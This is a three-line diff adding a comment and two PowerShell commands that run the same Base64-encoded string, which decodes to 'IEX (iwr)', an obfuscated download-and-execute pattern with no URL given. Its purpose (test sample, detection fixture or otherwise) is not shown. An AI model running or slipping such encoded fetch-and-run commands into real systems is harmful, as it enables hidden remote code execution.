@@ -1,0 +1,3 @@
+# Runs an encoded command.
+powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAGkAdwByACkA
+pwsh -enc SQBFAFgAIAAoAGkAdwByACkA
